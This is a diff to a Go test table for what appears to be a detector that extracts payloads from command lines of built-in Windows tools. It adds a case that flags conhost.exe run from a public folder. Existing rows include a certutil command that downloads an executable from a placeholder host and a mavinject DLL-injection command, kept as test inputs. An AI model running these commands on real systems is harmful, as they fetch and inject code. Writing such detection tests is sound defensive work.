@@ -72,6 +72,7 @@ func TestParse(t *testing.T) {
 		{"neither name nor line", "", ``, "", nil, false},
 		{"a crash handler is no payload", "Mftrace.exe", `mftrace WerFault.exe -u -p 12`, "launch", nil, true},
 		{"a console host alone is no payload", "Mftrace.exe", `mftrace C:\Windows\System32\conhost.exe 0x4`, "launch", nil, true},
+		{"a helper's name elsewhere is a payload", "Mftrace.exe", `mftrace C:\Users\Public\conhost.exe 0x4`, "launch", []Payload{{PayloadExe, `C:\Users\Public\conhost.exe`, "0x4"}}, true},
 		{"the address comes first, then where it goes", "Certutil.exe", `certutil -urlcache -f http://files.example.com/x C:\Temp\x.exe`, "download",
 			[]Payload{{PayloadRemote, "http://files.example.com/x", ""}, {PayloadExe, `C:\Temp\x.exe`, ""}}, true},
 		{"both halves of an injection", "Mavinject.exe", `mavinject 77 /INJECTRUNNING=C:\Temp\x.dll`, "inject", []Payload{{PayloadDLL, `C:\Temp\x.dll`, ""}, {PayloadAttach, "77", ""}}, true},
